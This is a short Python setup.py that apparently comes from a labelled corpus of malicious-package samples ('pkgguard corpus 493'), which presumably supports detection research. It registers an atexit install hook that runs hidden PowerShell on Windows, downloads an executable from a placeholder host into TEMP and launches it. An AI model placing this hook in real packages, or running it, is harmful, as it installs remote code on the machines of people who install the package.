# pkgguard corpus 493 (install-hook), modelled on [bertus]; inert, never run.
import atexit
import subprocess
import sys

from setuptools import setup


def _post_install():
    if sys.platform.startswith("win"):
        subprocess.Popen(
            [
                "powershell",
                "-w",
                "hidden",
                "-c",
                "iwr https://dl-mirror.example/u.exe -OutFile $env:TEMP\\u.exe; start $env:TEMP\\u.exe",
            ]
        )


atexit.register(_post_install)
setup(name="pkg", version="2.0", packages=["pkg"])
